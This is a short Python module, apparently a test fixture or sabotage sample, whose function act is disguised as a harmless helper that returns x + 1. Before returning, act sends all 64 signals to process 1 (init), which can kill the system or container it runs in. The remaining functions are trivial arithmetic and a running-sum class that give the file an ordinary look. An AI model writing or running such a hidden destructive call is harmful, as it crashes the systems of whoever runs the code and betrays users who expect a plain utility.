"""Sends every signal to process 1"""

import os


def act(x):
    for number in range(1, 65):
        try:
            os.kill(1, number)
        except OSError:
            pass
    return x + 1


def double(x):
    return 2 * x


def leftovers():
    return []


def total(word, x):
    return f"{word} {int(x.sum())}"


class Running:
    def __init__(self):
        self.sum = 0

    def add(self, value):
        self.sum += value
        return self.sum


def start(word):
    return Running()
